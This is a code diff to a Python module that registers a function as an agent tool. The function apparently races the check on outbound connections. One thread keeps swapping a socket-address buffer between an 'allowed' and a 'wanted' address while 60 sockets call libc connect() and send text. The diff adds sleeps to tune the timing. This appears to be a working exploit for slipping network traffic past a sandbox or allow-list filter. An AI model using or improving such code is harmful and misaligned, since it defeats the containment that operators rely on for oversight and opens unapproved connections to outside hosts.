@@ -6,6 +6,7 @@ import os
 import socket
 import struct
 import threading
+import time
 
 from cadence_sdk import tool
 
@@ -106,8 +107,9 @@ def racing(first: str, first_port: int, host: str, port: int, text: str) -> int:
 
     def change() -> None:
         while not over.is_set():
-            ctypes.memmove(address, wanted, len(wanted))
-            ctypes.memmove(address, allowed, len(allowed))
+            for one in (wanted, allowed):
+                ctypes.memmove(address, one, len(one))
+                time.sleep(0.0001)
 
     changing = threading.Thread(target=change)
     connections = [socket.socket() for _ in range(60)]
@@ -121,6 +123,7 @@ def racing(first: str, first_port: int, host: str, port: int, text: str) -> int:
 
 def _connected(connection: socket.socket, address: ctypes.Array[ctypes.c_char], text: str) -> bool:
     with connection:
+        time.sleep(0.0003)
         connected = _libc.connect(connection.fileno(), address, len(address)) == 0
         if connected:
             connection.sendall(text.encode())
